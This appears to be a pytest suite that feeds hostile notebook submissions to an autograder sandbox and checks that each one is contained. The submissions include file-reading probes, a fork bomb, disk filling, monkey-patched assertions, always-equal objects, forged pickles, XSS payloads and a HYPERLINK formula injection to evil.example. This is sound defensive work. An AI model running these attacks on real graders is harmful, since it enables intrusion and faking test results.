"""Hostile and broken submissions of the toy lesson, graded together, one test per case.

Each submission is the toy's solution (3 points: ``test_add`` 1, ``test_mul`` 2) with one
attack or defect; the table in ``grader/README.md`` says what the grader does for each.
The file and network probes print one line per attempt (``<what>: denied (...)`` or
``<what>: ALLOWED``) that the tests read back from the autograded notebook.

Run: ``pytest grader/tests/test_hostile.py`` (about a minute on 2 cores).
"""
from __future__ import annotations

import copy
import csv
import os
import shutil
import time
from pathlib import Path

import nbformat
import psutil
import pytest
from toy import FIXTURES, TOY, make_kit, toy_notebook, with_solution

from grader import ipynb
from grader.autograde import autograde
from grader.course import Course
from grader.paths import REPO_ROOT
from grader.sandbox import GiB, Limits, capabilities
from grader.settings import Settings

CAPS = capabilities()
needs_root = pytest.mark.skipif(not CAPS["drop_user"] or not CAPS["mounts"],
                                reason="needs root and mount namespaces (uid change, hidden files)")
needs_netns = pytest.mark.skipif(not CAPS["no_network"],
                                 reason="this OS gives no network namespace to this user")
TOKEN = "4242.5151"  # the sleep left running in the background: `sleep 4242.5151`

PROBE = '''\
import glob, os, socket, subprocess

def attempt(what, action):
    try:
        action()
        print(f"{what}: ALLOWED")
    except BaseException as err:
        print(f"{what}: denied ({type(err).__name__})")

work = os.path.dirname(os.environ["HOME"])  # the grader's folder for this submission
attempt("read the lesson source", lambda: open(@SOLUTION@).read())
attempt("read the repository's solutions", lambda: open(@REPO_SOLUTION@).read())
attempt("read the repository's git objects", lambda: os.listdir(@REPO@ + "/.git/objects"))
attempt("read the worker's source",
        lambda: open(work + "/course/source/99_toy/99_toy.ipynb").read())
attempt("read the worker's gradebook", lambda: open(work + "/course/gradebook.db", "rb").read())
attempt("read the sandbox plan", lambda: open(work + "/plan.json").read())
attempt("read the trusted cases", lambda: open(@TRUSTED_SPEC@).read())
attempt("read the expected outputs", lambda: open(@EXPECTED@).read())
attempt("write the trusted inputs",
        lambda: open(glob.glob("/tmp/lmkit-ipc-*/trusted/inputs.json")[0], "a").write(" "))
attempt("list the grader's folder", lambda: os.listdir(work))
attempt("write the course gradebook", lambda: open(@GRADEBOOK@, "ab").write(b"0"))
attempt("write the worker's gradebook",
        lambda: open(work + "/course/gradebook.db", "ab").write(b"0"))
attempt("delete the lesson source", lambda: os.remove(@SOLUTION@))
attempt("delete the repository's solutions", lambda: os.remove(@REPO_SOLUTION@))
attempt("write into the kit", lambda: open(@REPO@ + "/pwned.txt", "w").write("0"))
attempt("become root", lambda: os.setuid(0))
attempt("reach the internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=3))
attempt("resolve a name", lambda: socket.getaddrinfo("example.com", 80))
subprocess.Popen(["sleep", "@TOKEN@"], start_new_session=True)  # a daemon left behind
if os.fork() == 0:  # and a double-forked one
    os.setsid()
    subprocess.Popen(["sleep", "@TOKEN@"])
    os._exit(0)
print("probe done")
'''

FORK_BOMB = '''\
import os, threading, time
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children.append(pid)
except OSError as err:
    print(f"forks stopped after {len(children)}: {type(err).__name__}")
threads = []
try:
    while True:
        thread = threading.Thread(target=time.sleep, args=(600,), daemon=True)
        thread.start()
        threads.append(thread)
except RuntimeError as err:
    print(f"threads stopped after {len(threads)}: {err}")
'''

ALWAYS_EQUAL = '''\
class Anything:
    def __eq__(self, other):
        return True
return Anything()'''

# A float whose == is always true: a subclass of float is not plain data either.
FLOAT_SUBCLASS = '''\
class Lying(float):
    def __eq__(self, other):
        return True
return Lying(a - b)'''

# Wrong answers, and every in-kernel defense down: errors swallowed, assert helpers and the
# grader's own runner patched.
PATCHES = '''\
import numpy, numpy.testing, torch
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.allclose = torch.allclose = lambda *args, **kwargs: True
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
import grader.trusted.runner as runner
runner.run_case = lambda *args: {"raised": "ValueError"}
'''

# Blank the grader's runner cells (an input transformer) and forge its output files with a
# pickled object in the .npz.
FORGED = '''\
import json, os, pickle
import numpy as np
import glob
out = glob.glob("/tmp/lmkit-ipc-*/trusted/out")[0]  # the runner's folder, as the runner sees it
for gid in ("test_add", "test_mul"):
    np.save(open(os.path.join(out, gid + ".npy"), "wb"), np.array([object()], dtype=object),
            allow_pickle=True)
    with open(os.path.join(out, gid + ".npz"), "wb") as f:
        np.savez(f, a0=np.array([{"x": 1}], dtype=object))
    with open(os.path.join(out, gid + ".json"), "w") as f:
        json.dump({"records": [{"value": {"array": "a0"}}] * 3}, f)
get_ipython().input_transformers_cleanup.append(
    lambda lines: [] if lines and lines[0].startswith("# lmkit trusted compare") else lines)
'''


# Fill every writable place: the private tmpfs (/tmp, /var/tmp, /dev/shm, home) in size and
# in files, SysV shared memory (outside RLIMIT_DATA), the runner's folder; leave it all there.
FILL = '''\
import glob, os
def fill(folder, what):
    try:
        with open(os.path.join(folder, "@TOKEN@-big"), "wb") as f:
            while True:
                f.write(b"x" * (1 << 20))
    except OSError as err:
        print(f"{what} full: {type(err).__name__}")
    try:
        for i in range(100_000):
            open(os.path.join(folder, f"@TOKEN@-{i}"), "w").close()
    except OSError as err:
        print(f"{what} files: {type(err).__name__} after {i}")
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ["HOME"]):
    fill(folder, folder)
sockets = glob.glob("/tmp/lmkit-ipc-*")[0]
fill(sockets, "sockets")
for path in glob.glob(sockets + "/@TOKEN@-*"):  # room again for the runner's outputs
    os.remove(path)
import ctypes
libc = ctypes.CDLL(None)
shmid = libc.shmget(0, 64 << 20, 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT
print("shm", "made" if shmid >= 0 else "refused")
'''

# Leave the trusted compare's values alone; read what nbgrader runs and the trusted inputs and
# print them (into the feedback, if the grader showed outputs); HTML that runs scripts.
RECORDER = '''\
import glob
def _record(info):
    print("RECORDED:", info.raw_cell)
get_ipython().events.register("pre_run_cell", _record)
for path in glob.glob("/tmp/lmkit-ipc-*/trusted/inputs.json"):
    print("INPUTS:", open(path).read())
from IPython.display import HTML, display
display(HTML('<img src=x onerror="alert(1)"><script>alert(2)</script>'))
'''
SCRIPT_MARKDOWN = '<script>alert("md")</script>\n\n<a href="#" onclick="alert(3)">x</a>'

# Its stderr looks like an exception whose message is a spreadsheet formula, written by a
# child that goes on after the kernel died (the last "exception" of nbgrader's log).
FORMULA = '''\
import os, sys, time
LINE = 'ValueError: =HYPERLINK("http://evil.example/"&A1,"click")\\n'
if os.fork() == 0:
    os.setsid()
    for _ in range(600):
        os.write(2, LINE.encode())
        time.sleep(0.05)
    os._exit(0)
os.write(2, LINE.encode())
os._exit(1)
'''


def add_cell(nb, source: str, index: int | None = None):
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    nb.cells.insert(len(nb.cells) if index is None else index, cell)
    return nb


def cell_index(nb, grade_id: str) -> int:
    return [ipynb.grade_id(c) for c in nb.cells].index(grade_id)


def submissions(kit, folder: Path) -> None:
    solution = toy_notebook()
    solution.metadata.kernelspec = {"name": "python3", "display_name": "x", "language": "python"}

    def put(student: str, nb) -> None:
        ipynb.write(nb, folder / student / f"{TOY}.ipynb")

    text = ipynb.dumps(toy_notebook())
    (folder / "truncated").mkdir(parents=True)
    (folder / "truncated" / f"{TOY}.ipynb").write_text(text[: len(text) // 2])
    (folder / "json_list.ipynb").write_text("[1, 2, 3]")
    other = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")])
    other.cells[0].metadata.nbgrader = {"grade": True, "grade_id": "test_tokenizer", "points": 5,
                                        "locked": True, "solution": False, "schema_version": 3}
    put("wrong_lesson", other)
    (folder / "renamed").mkdir()
    ipynb.write(solution, folder / "renamed" / f"{TOY} (1).ipynb")

    deleted = copy.deepcopy(solution)
    deleted.cells = [c for c in deleted.cells if ipynb.grade_id(c) not in ("mul", "test_mul")]
    put("deleted_cells", deleted)
    reordered = copy.deepcopy(solution)
    i, j = cell_index(reordered, "add"), cell_index(reordered, "mul")
    reordered.cells[i], reordered.cells[j] = reordered.cells[j], reordered.cells[i]
    put("reordered", reordered)
    changed = copy.deepcopy(solution)
    for cell in changed.cells:
        if ipynb.grade_id(cell) in ("add", "test_add"):
            cell.metadata.nbgrader["grade_id"] += "_renamed"
    put("changed_grade_ids", changed)
    changed = copy.deepcopy(solution)
    for n, cell in enumerate(changed.cells):
        cell.id = f"mine-{n}"
    put("changed_cell_ids", changed)
    edited = with_solution(solution, "add", "return 0")
    test_add = edited.cells[cell_index(edited, "test_add")]
    test_add.source, test_add.metadata.nbgrader["points"] = "pass", 100
    emptied = edited.cells[cell_index(edited, "test_mul")]
    emptied.source = ""
    put("edited_tests", edited)

    put("syntax_error", with_solution(solution, "add", "return a +* b"))
    put("sys_exit", add_cell(solution, 'import sys\nsys.exit("bye")', cell_index(solution, "mul")))
    put("segfault", add_cell(solution, "import ctypes\nctypes.string_at(0)"))
    put("out_of_memory", with_solution(solution, "add", f"x = bytearray({2 * GiB})\nreturn a + b"))
    put("sleeps", with_solution(solution, "mul", "import time\ntime.sleep(3600)"))
    put("gigantic_output", add_cell(solution, 'print("spam " * 4_000_000)\nfor i in range(300_000):'
                                              '\n    print(i)'))
    put("fork_bomb", add_cell(solution, FORK_BOMB))  # last: the limit stays reached
    probe = (PROBE.replace("@TOKEN@", TOKEN)
             .replace("@SOLUTION@", repr(str(kit.solution(TOY))))
             .replace("@REPO_SOLUTION@",
                      repr(str(REPO_ROOT / "solutions" / "01_bpe_tokenizer.ipynb")))
             .replace("@GRADEBOOK@", repr(str(kit.course / "gradebook.db")))
             .replace("@REPO@", repr(str(REPO_ROOT)))
             .replace("@TRUSTED_SPEC@", repr(str(kit.solutions / "trusted" / f"{TOY}.py")))
             .replace("@EXPECTED@",
                      repr(str(kit.course / "trusted" / TOY / "expected" / "test_add.json"))))
    put("probe", add_cell(solution, probe))
    put("always_equal", with_solution(toy_notebook(), "add", ALWAYS_EQUAL))
    put("float_subclass", with_solution(toy_notebook(), "add", FLOAT_SUBCLASS))
    put("patches", add_cell(with_solution(solution, "add", "return a - b"), PATCHES,
                            cell_index(solution, "add")))
    put("forged", add_cell(solution, FORGED, cell_index(solution, "add")))
    put("object_array", with_solution(solution, "add",
                                      "import numpy as np\nreturn np.array([a + b], dtype=object)"))

    # issue 20, class 1: links and special files in the submissions folder
    (folder / "link_solution").mkdir()
    (folder / "link_solution" / f"{TOY}.ipynb").symlink_to(kit.solution(TOY))
    (folder / "link_classmate.ipynb").symlink_to(folder / "reordered" / f"{TOY}.ipynb")
    (folder / "link_folder").symlink_to(folder / "changed_cell_ids")
    (folder / "fifo").mkdir()
    os.mkfifo(folder / "fifo" / f"{TOY}.ipynb")  # a read would never return
    put("fifo_timestamp", solution)
    os.mkfifo(folder / "fifo_timestamp" / "timestamp.txt")
    big = add_cell(solution, "x = 1")
    big.cells.append(nbformat.v4.new_markdown_cell("*a* " * (1 << 20)))  # 4 MB of markdown
    put("too_big", big)
    # class 3: fills every place it can write; class 4: an answer module and another checkout
    put("fills_disk", add_cell(solution, FILL.replace("@TOKEN@", TOKEN)))
    put("imports_answer", with_solution(solution, "add", ANSWER_IMPORT))
    put("other_checkout", add_cell(solution, OTHER_CHECKOUT))
    # class 6: feedback as a channel out; a formula in the reason
    recorder = add_cell(solution, RECORDER, cell_index(solution, "add"))
    recorder.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT_MARKDOWN))
    put("recorder", recorder)
    put("formula", add_cell(solution, FORMULA))


ANSWER_IMPORT = "from helpers.reference.toy import add as _add\nreturn _add(a, b)"
OTHER_CHECKOUT = '''\
import glob
found = glob.glob("/tmp/**/99_toy.ipynb", recursive=True) + glob.glob("/work/**/99_toy.ipynb")
print("other checkouts:", [p for p in found if "solutions" in p] or "none")
'''


def another_checkout(root: Path) -> Path:
    """A world-readable copy of the toy's solution outside the kit (as another clone)."""
    other = root / "another-clone" / "solutions"
    other.mkdir(parents=True)
    shutil.copy(FIXTURES / f"{TOY}.ipynb", other)
    for folder in (root, other.parent, other):
        folder.chmod(0o755)
    return other


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    kit = make_kit(tmp_path_factory.mktemp("hostile") / "kit")
    helpers = kit.root / "helpers"  # a module that answers the toy lesson (grader.release)
    (helpers / "reference").mkdir(parents=True)
    (helpers / "__init__.py").write_text("")
    (helpers / "reference" / "__init__.py").write_text("")
    (helpers / "reference" / "toy.py").write_text(
        'ANSWERS = ("99_toy",)\n\n\ndef add(a, b):\n    return a + b\n')
    another_checkout(kit.root.parent)
    folder = kit.root / "submissions"
    submissions(kit, folder)
    settings = Settings(cell_timeout=5, notebook_timeout=90, max_notebook_bytes=2 << 20,
                        limits=Limits(cpu_seconds=60, memory_bytes=1 * GiB, processes=64,
                                      file_bytes=64 << 20, disk_bytes=32 << 20,
                                      disk_files=1000))
    start = time.monotonic()
    results = autograde(TOY, folder, layout=kit, settings=settings, workers=2)
    return kit, {r.student: r for r in results}, time.monotonic() - start


def outputs(kit, student: str) -> str:
    nb = ipynb.read(Course(kit.course, kit.root).autograded(student, TOY))
    return "".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", [])
                   if o.output_type == "stream")


def score(graded, student):
    result = graded[1][student]
    return result.score, result.status


@pytest.mark.parametrize("student, reason", [
    ("truncated", "not a valid notebook (NotJSONError"),
    ("json_list", "not a valid notebook ("),
    ("wrong_lesson", "none of the graded cells of 99_toy"),
])
def test_files_that_are_not_this_lessons_notebook_are_invalid(graded, student, reason):
    assert score(graded, student) == (0, "invalid")
    assert graded[1][student].reason.startswith(reason)


def test_a_renamed_notebook_is_missing_with_a_hint(graded):
    assert score(graded, "renamed") == (0, "missing")
    assert graded[1]["renamed"].reason == \
        f"no {TOY}.ipynb in the student's folder (found {TOY} (1).ipynb: rename it?)"


def test_deleted_cells_score_zero_for_their_tests(graded):
    result = graded[1]["deleted_cells"]
    assert result.status == "graded" and result.tests == {"test_add": 1.0, "test_mul": 0.0}


def test_reordered_cells_run_in_the_students_order(graded):
    result = graded[1]["reordered"]  # add is now defined after test_add: NameError there
    assert result.status == "graded" and result.tests == {"test_add": 0.0, "test_mul": 2.0}


def test_changed_grade_ids_are_invalid_with_the_ids(graded):
    assert score(graded, "changed_grade_ids") == (0, "invalid")
    assert graded[1]["changed_grade_ids"].reason == (
        "graded cells with ids that are not in 99_toy: add_renamed, test_add_renamed "
        "(copy them back from the released notebook)")


def test_changed_cell_ids_do_not_matter(graded):
    assert score(graded, "changed_cell_ids") == (3, "graded")


def test_edited_and_emptied_tests_are_restored_from_the_source(graded):
    result = graded[1]["edited_tests"]
    assert result.max_score == 3  # the points come from the source too
    assert result.tests == {"test_add": 0.0, "test_mul": 2.0}  # add returns 0: caught


@pytest.mark.parametrize("student, tests", [
    ("syntax_error", {"test_add": 0.0, "test_mul": 2.0}),
    ("sys_exit", {"test_add": 1.0, "test_mul": 2.0}),  # IPython catches SystemExit
    ("out_of_memory", {"test_add": 0.0, "test_mul": 2.0}),  # MemoryError in add only
    ("sleeps", {"test_add": 1.0, "test_mul": 0.0}),  # interrupted after the cell timeout
    # bounded by the process limit; it stays reached, so the next cell (the trusted runner of
    # test_add) cannot start the thread IPython needs: that check fails closed
    ("fork_bomb", {"test_add": 0.0, "test_mul": 2.0}),
    ("gigantic_output", {"test_add": 1.0, "test_mul": 2.0}),
])
def test_failures_inside_one_cell_cost_only_that_cell(graded, student, tests):
    result = graded[1][student]
    assert (result.status, result.tests) == ("graded", tests), result.reason


def test_out_of_memory_is_a_memory_error(graded):
    nb = ipynb.read(Course(graded[0].course, graded[0].root).autograded("out_of_memory", TOY))
    errors = [o.ename for c in nb.cells for o in c.get("outputs", []) if o.output_type == "error"]
    assert errors and set(errors) == {"MemoryError"}  # in test_add and in the demo cell


def test_gigantic_output_is_cut(graded):
    path = Course(graded[0].course, graded[0].root).autograded("gigantic_output", TOY)
    assert path.stat().st_size < 1 << 20


def test_fork_bomb_hits_the_process_limit(graded):
    text = outputs(graded[0], "fork_bomb")
    assert "forks stopped after" in text and "threads stopped after" in text, text


@pytest.mark.parametrize("student", ["segfault"])
def test_a_dead_kernel_scores_zero_with_the_reason(graded, student):
    assert score(graded, student) == (0, "error")
    assert graded[1][student].reason == "nbgrader autograde failed: DeadKernelError: Kernel died"


@needs_root
@pytest.mark.parametrize("attempt", [
    "read the lesson source", "read the repository's solutions",
    "read the repository's git objects", "read the worker's source",
    "read the worker's gradebook", "read the sandbox plan", "list the grader's folder",
    "read the trusted cases", "read the expected outputs", "write the trusted inputs",
    "write the course gradebook", "write the worker's gradebook", "delete the lesson source",
    "delete the repository's solutions", "write into the kit", "become root",
])
def test_files_outside_the_working_copy_are_out_of_reach(graded, attempt):
    text = outputs(graded[0], "probe")
    assert "probe done" in text, text
    assert f"{attempt}: denied (" in text, text


def test_the_probe_changed_nothing(graded):
    kit, results, _ = graded
    assert results["probe"].tests == {"test_add": 1.0, "test_mul": 2.0}
    assert kit.solution(TOY).is_file() and (REPO_ROOT / "solutions").is_dir()
    assert not (REPO_ROOT / "pwned.txt").exists()


@needs_netns
@pytest.mark.parametrize("attempt", ["reach the internet", "resolve a name"])
def test_no_network(graded, attempt):
    assert f"{attempt}: denied (" in outputs(graded[0], "probe")


@needs_root
def test_background_processes_are_killed(graded):
    left = [p for p in psutil.process_iter(["cmdline"]) if TOKEN in (p.info["cmdline"] or [])]
    assert left == []


def test_every_submission_has_one_result(graded):
    kit, results, seconds = graded
    assert set(results) == {p.name.removesuffix(".ipynb") for p in
                            (kit.root / "submissions").iterdir()}
    assert seconds < 300


@pytest.mark.parametrize("student, mul, why", [
    ("always_equal", 2.0, "did not return plain data"),   # in the kernel: Anything() == 3
    ("float_subclass", 2.0, "did not return plain data"),  # in the kernel: Lying(-1.0) == 3
    ("object_array", 2.0, "did not return plain data"),    # in the kernel: array([3]) == 3
    # errors swallowed in the kernel, assert helpers patched, the runner patched to "raise"
    ("patches", 0.0, "raised ValueError"),
])
def test_wrong_answers_that_pass_in_the_kernel_get_no_marks(graded, student, mul, why):
    kit, results, _ = graded
    result = results[student]
    assert result.tests == {"test_add": 0.0, "test_mul": mul}, result
    assert why in result.checks["test_add"], result.checks
    nb = ipynb.read(Course(kit.course, kit.root).autograded(student, TOY))
    test_add = nb.cells[cell_index(nb, "test_add")]
    errors = [o.ename for o in test_add.outputs if o.output_type == "error"]
    # the feedback says why when the in-kernel test passed (set_custom_exc did not hide the
    # AssertionError from nbgrader here: the patched runner is what fails "patches")
    assert errors == (["AssertionError"] if student == "patches" else ["TrustedCheckFailed"])
    assert not any(c.source.startswith("# lmkit trusted compare") for c in nb.cells)


def test_the_in_kernel_tests_alone_would_have_passed_them(graded):
    """Without the trusted compare these attacks pass: the test above can fail."""
    kit, results, _ = graded
    nb = ipynb.read(Course(kit.course, kit.root).autograded("always_equal", TOY))
    test_add = nb.cells[cell_index(nb, "test_add")]
    assert [o.ename for o in test_add.outputs if o.output_type == "error"] == ["TrustedCheckFailed"]
    check = results["always_equal"].checks["test_add"]
    assert check.startswith("hidden checks outside your kernel")


def test_forged_outputs_with_pickles_fail_cleanly(graded):
    result = graded[1]["forged"]  # runner cells blanked, pickle-bearing .npz left in their place
    assert result.status == "graded" and result.tests == {"test_add": 0.0, "test_mul": 0.0}
    assert set(result.checks) == {"test_add", "test_mul"}
    assert all("no result" in why or "unreadable" in why for why in result.checks.values())


def test_reasons_reveal_no_hidden_inputs_or_values(graded):
    reasons = " ".join(why for r in graded[1].values() for why in r.checks.values())
    assert reasons and not any(secret in reasons for secret in ("40", "42", "-1", "0.25", "0.75"))


# --- issue 20: what an attack on the grader found ------------------------------------------


@pytest.mark.parametrize("student, reason", [
    ("link_solution", f"{TOY}.ipynb is a symbolic link: hand in the notebook itself"),
    ("link_classmate", "link_classmate.ipynb is a symbolic link or a special file"),
    ("link_folder", "link_folder is a symbolic link or a special file"),
    ("fifo", f"{TOY}.ipynb is not a regular file"),
    ("too_big", f"{TOY}.ipynb is larger than 2 MB"),
])
def test_links_special_files_and_huge_files_are_not_read(graded, student, reason):
    """Class 1: never followed, never blocked on; no copy of anyone else's work is graded."""
    result = graded[1][student]
    assert (result.score, result.status) == (0, "invalid") and result.reason.startswith(reason)
    html = result.feedback.read_text()
    assert "return a + b" not in html and "_hidden" not in html  # the solution's text


def test_a_fifo_timestamp_neither_hangs_nor_counts(graded):
    """Class 1 and 2: the student's timestamp.txt is not read at all by default."""
    result = graded[1]["fifo_timestamp"]
    assert (result.score, result.status, result.timestamp) == (3, "graded", None)


@needs_root
def test_disk_space_is_private_capped_and_gone_afterwards(graded):
    """Class 3: /tmp, /var/tmp, /dev/shm and home share one capped tmpfs of the kernel's
    own; the runner's folder is capped too; nothing of it outlives the submission."""
    kit, results, _ = graded
    text = outputs(kit, "fills_disk")
    for what in ("/tmp", "/var/tmp", "/dev/shm", "sockets"):
        assert f"{what} full: OSError" in text and f"{what} files: OSError" in text, text
    # full scratch space costs its own runner cells at most (checks fail closed), never the
    # grader or the students graded after it (their exact scores: the tests above)
    assert results["fills_disk"].status == "graded" and not results["fills_disk"].grader_fault
    left = [p for folder in ("/tmp", "/var/tmp", "/dev/shm")
            for p in Path(folder).glob(f"{TOKEN}-*")]
    assert left == []
    segments = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    assert not [line for line in segments if int(line.split()[7]) >= 61000]  # uid column


@needs_root
def test_answers_elsewhere_are_out_of_reach(graded):
    """Class 4: the kernel sees an allow-list (no other checkout), and the modules that
    answer this lesson are empty in the sandbox."""
    kit, results, _ = graded
    assert "other checkouts: none" in outputs(kit, "other_checkout")
    assert results["imports_answer"].tests == {"test_add": 0.0, "test_mul": 2.0}
    assert (kit.root / "helpers" / "reference" / "toy.py").stat().st_size > 0  # untouched


def test_feedback_shows_no_recorded_tests_inputs_or_scripts(graded):
    """Class 6: the kernel's outputs are not in the feedback (only the grader's verdict
    lines); hidden tests, trusted inputs and scripts never reach the page."""
    kit, results, _ = graded
    assert results["recorder"].tests == {"test_add": 1.0, "test_mul": 2.0}
    autograded = Course(kit.course, kit.root).autograded("recorder", TOY).read_text()
    assert "RECORDED: " in autograded and "INPUTS: {" in autograded  # it did record them
    html = results["recorder"].feedback.read_text()
    for secret in ("RECORDED: ", "_hidden_add_cases", "INPUTS: {", "<script>alert",
                   "<img src=x onerror", "onclick="):  # its source is shown, escaped
        assert secret not in html, secret
    assert "add(1, 2) should be 3" in html  # the visible test, as the student got it


def test_reasons_are_the_graders_words_and_csv_cells_are_not_formulas(graded):
    """Class 6: a kernel's stderr never reaches a reason; text cells cannot start a formula."""
    kit, results, _ = graded
    assert results["formula"].reason == "nbgrader autograde failed: DeadKernelError: Kernel died"
    with open(kit.course / "grades.csv", newline="") as f:
        cells = [value for row in csv.DictReader(f) for value in row.values()]
    assert not [c for c in cells if c and (c[0] in "=+@" or (c[0] == "-" and not c[1:2].isdigit()))]
    assert not any("HYPERLINK" in c for c in cells)
